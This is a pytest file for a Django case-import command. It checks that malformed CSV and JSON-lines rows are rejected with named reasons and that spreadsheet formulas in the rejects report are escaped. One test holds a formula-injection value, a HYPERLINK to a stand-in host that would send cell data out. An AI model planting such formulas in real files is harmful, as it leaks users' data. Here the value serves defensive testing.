"""`regie import` on bad files: every bad row rejected with its reason, the others imported, never a
traceback, a silent stop or a partial import; an undecodable file refused before anything is written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from regie.audit.models import AuditEvent
from regie.cases.importing import (
    BAD_CHARACTERS,
    HAS_NUL,
    NOT_JSON,
    NOT_TEXT,
    ROW_TOO_LONG,
    TOO_DEEP,
    TOO_MANY_FIELDS,
    UNBALANCED_QUOTE,
    spreadsheet_safe,
)
from regie.cases.models import Case
from regie.cases.tests.test_import import _import, _rows
from regie.demo.generate import IMPORT_COLUMNS
from regie.people.models import Person

pytestmark = pytest.mark.django_db

MB = 1_000_000


def _csv_lines(rows: list[dict[str, Any]]) -> list[str]:
    """The file's lines (header first), each with its line break."""
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(IMPORT_COLUMNS), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().splitlines(keepends=True)


def _file(tmp_path: Path, name: str, text: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")
    return path


def _imported() -> set[str]:
    return set(Case.objects.values_list("source_reference", flat=True))


def _refs(rows: list[dict[str, Any]], *indexes: int) -> set[str]:
    return {rows[i]["source_reference"] for i in indexes}


def test_a_one_megabyte_line_is_a_rejected_row(tmp_path: Path) -> None:
    rows = _rows(3, seed=51)
    lines = _csv_lines(rows)
    lines.insert(2, "x" * (2 * MB) + "\n")  # after the first row: row 3 of the file
    out, status = _import(str(_file(tmp_path, "long-line.csv", "".join(lines))))

    assert status == 1, out
    assert "4 rows read, 3 imported, 0 already present, 1 rejected." in out
    assert f"row 3: (row): {ROW_TOO_LONG}" in out
    assert _imported() == _refs(rows, 0, 1, 2)


def test_a_one_megabyte_field_is_rejected_naming_the_field(tmp_path: Path) -> None:
    rows = _rows(3, seed=52)
    rows[0]["medical_background"] = "m" * MB
    rows[1]["family_name"] = "f" * MB
    out, status = _import(str(_file(tmp_path, "long-field.csv", "".join(_csv_lines(rows)))))

    assert status == 1, out
    assert "row 2: medical_background: Maximaal 20000 tekens." in out
    assert "row 3: family_name: Maximaal 200 tekens." in out
    assert _imported() == _refs(rows, 2)
    assert not Person.objects.filter(v_number__in=[rows[0]["v_number"], rows[1]["v_number"]]).exists()


def test_json_lines_too_long_too_deep_or_an_object_where_text_belongs(tmp_path: Path) -> None:
    rows: list[Any] = _rows(6, seed=53)
    rows[1]["family_name"] = {"given": "Mohammed", "family": "Haddad"}  # an object where a name belongs
    rows[2]["languages"] = [["ar"], "fr"]  # a list in a list
    rows[3]["current_location"] = ["AZC", "Ter Apel"]  # a list where one value belongs
    lines = [json.dumps(row) for row in rows]
    lines[4] = '{"family_name": ' + "[" * 100_000 + "]" * 100_000 + "}"  # deeper than any parser goes
    lines[5] = json.dumps({**rows[5], "medical_background": "m" * (2 * MB)})  # a 2 MB line
    lines.append("[1, 2, 3]")  # JSON, not an object
    out, status = _import(str(_file(tmp_path, "bad.jsonl", "\n".join(lines) + "\n")))

    assert status == 1, out
    assert "7 rows read, 1 imported, 0 already present, 6 rejected." in out
    assert f"row 2: family_name: {NOT_TEXT}" in out
    assert f"row 3: languages: {NOT_TEXT}" in out
    assert f"row 4: current_location: {NOT_TEXT}" in out
    assert f"row 5: (row): {TOO_DEEP}" in out
    assert f"row 6: (row): {ROW_TOO_LONG}" in out
    assert f"row 7: (row): {NOT_JSON}" in out
    assert "Mohammed" not in out and "Ter Apel" not in out
    assert _imported() == _refs(rows, 0)


def test_a_bad_byte_halfway_refuses_the_whole_file_before_anything_is_written(tmp_path: Path) -> None:
    rows = _rows(600, seed=54)  # more than one batch before the bad byte
    lines = [line.encode() for line in _csv_lines(rows)]
    lines[550] = lines[550].replace(b",", b",\xff", 1)  # line 551 of the file
    events = AuditEvent.objects.count()
    with pytest.raises(CommandError) as refused:
        call_command(
            "import", str(_file(tmp_path, "latin.csv", b"".join(lines))), "--no-progress", stdout=io.StringIO()
        )

    assert refused.value.returncode == 2
    assert str(refused.value).startswith("Line 551 is not UTF-8 text")
    assert Case.objects.count() == 0 and AuditEvent.objects.count() == events


def test_the_refusal_names_the_line_of_the_bad_byte(tmp_path: Path) -> None:
    lines = [line.encode() for line in _csv_lines(_rows(5, seed=55))]
    lines[4] = lines[4].replace(b",", b",\xc3(", 1)  # a broken two-byte sequence on line 5
    path = _file(tmp_path, "broken.csv", b"\xef\xbb\xbf" + b"".join(lines))  # with a BOM
    with pytest.raises(CommandError) as refused:
        call_command("import", str(path), "--no-progress", stdout=io.StringIO())

    assert refused.value.returncode == 2
    assert str(refused.value).startswith("Line 5 is not UTF-8 text") and "nothing was imported" in str(refused.value)
    assert Case.objects.count() == 0


@pytest.mark.parametrize("closes_later", [False, True], ids=["never-closed", "closed-rows-later"])
def test_an_unbalanced_quote_rejects_the_row_where_it_opened_and_imports_the_rest(
    tmp_path: Path, closes_later: bool
) -> None:
    rows = _rows(6, seed=56)
    rows[4]["current_location"] = "AZC Budel"  # written quoted below: its quote may close the stray one
    lines = _csv_lines(rows)
    lines[2] = lines[2].replace(",", ',"', 2)  # row 3: a quote opens in its second field and never closes
    if closes_later:
        lines[5] = lines[5].replace("AZC Budel", '"AZC Budel"')
    out, status = _import(str(_file(tmp_path, "quote.csv", "".join(lines))))

    assert status == 1, out
    assert f"row 3: (row): {UNBALANCED_QUOTE}" in out
    assert "6 rows read, 5 imported, 0 already present, 1 rejected." in out
    assert _imported() == _refs(rows, 0, 2, 3, 4, 5)


def test_a_line_break_inside_a_quoted_free_text_is_no_unbalanced_quote(tmp_path: Path) -> None:
    rows = _rows(3, seed=57)
    rows[1]["medical_background"] = "regel een\nregel twee"
    out, status = _import(str(_file(tmp_path, "multiline.csv", "".join(_csv_lines(rows)))))

    assert status == 0, out
    assert Case.objects.get(source_reference=rows[1]["source_reference"]).medical_background == "regel een\nregel twee"
    assert _imported() == _refs(rows, 0, 1, 2)


def test_nul_bytes_and_lone_surrogates_are_rejected_naming_the_field(tmp_path: Path) -> None:
    rows = _rows(3, seed=58)
    rows[0]["current_location"] = "AZC\x00Ter Apel"
    csv_out, csv_status = _import(str(_file(tmp_path, "nul.csv", "".join(_csv_lines(rows)))))
    assert csv_status == 1
    assert f"row 2: current_location: {HAS_NUL}" in csv_out
    assert _imported() == _refs(rows, 1, 2)

    more = _rows(3, seed=59)
    lines = [json.dumps(row) for row in more]
    lines[0] = lines[0].replace('"return_decision_authority": "', '"return_decision_authority": "\\u0000', 1)
    lines[1] = lines[1].replace('"current_location": "', '"current_location": "\\ud800', 1)
    json_out, json_status = _import(str(_file(tmp_path, "nul.jsonl", "\n".join(lines))))
    assert json_status == 1, json_out
    assert f"row 1: return_decision_authority: {HAS_NUL}" in json_out
    assert f"row 2: current_location: {BAD_CHARACTERS}" in json_out
    assert _imported() == _refs(rows, 1, 2) | _refs(more, 2)


def test_more_fields_than_the_header_is_a_rejected_row(tmp_path: Path) -> None:
    rows = _rows(2, seed=60)
    lines = _csv_lines(rows)
    lines[1] = lines[1].rstrip("\n") + ",Haddad,Mohammed\n"
    out, status = _import(str(_file(tmp_path, "wide.csv", "".join(lines))))

    assert status == 1
    assert f"row 2: (row): {TOO_MANY_FIELDS}" in out
    assert _imported() == _refs(rows, 1)


def test_spreadsheet_formulas_are_escaped() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("IND-2026-1") == "IND-2026-1"
    assert spreadsheet_safe("") == ""


def test_the_rejects_report_escapes_formulas_and_holds_only_each_rows_own_values(tmp_path: Path) -> None:
    rows = _rows(4, seed=61)
    rows[0]["source_reference"] = '=HYPERLINK("http://example.invalid/?x="&A1)'
    rows[0]["v_number"] = "123"  # rejected
    rows[1]["source_reference"] = "@SUM(1+1)"
    rows[1]["target_group"] = "unknown"  # rejected
    rows[3]["v_number"] = rows[2]["v_number"]  # the same person as row 4: refused while that case runs
    rows[3]["family_name"] = "Benali"
    report = tmp_path / "rejected.csv"
    out, status = _import(str(_file(tmp_path, "formulas.csv", "".join(_csv_lines(rows)))), "--report", str(report))

    assert status == 1, out
    with report.open(encoding="utf-8", newline="") as handle:
        lines = list(csv.DictReader(handle))
    assert [(r["row"], r["field"]) for r in lines] == [("2", "v_number"), ("3", "target_group"), ("5", "v_number")]
    assert lines[0]["source_reference"] == "'" + rows[0]["source_reference"]
    assert lines[1]["source_reference"] == "'@SUM(1+1)"
    # Row 5's line names row 5's own reference and no value of row 4 (its name, V-number or reference).
    assert lines[2]["source_reference"] == rows[3]["source_reference"]
    text = report.read_text(encoding="utf-8") + out
    for value in (rows[2]["family_name"], rows[2]["given_names"], rows[2]["v_number"], rows[2]["source_reference"]):
        assert value not in text, value
    assert _imported() == _refs(rows, 2)
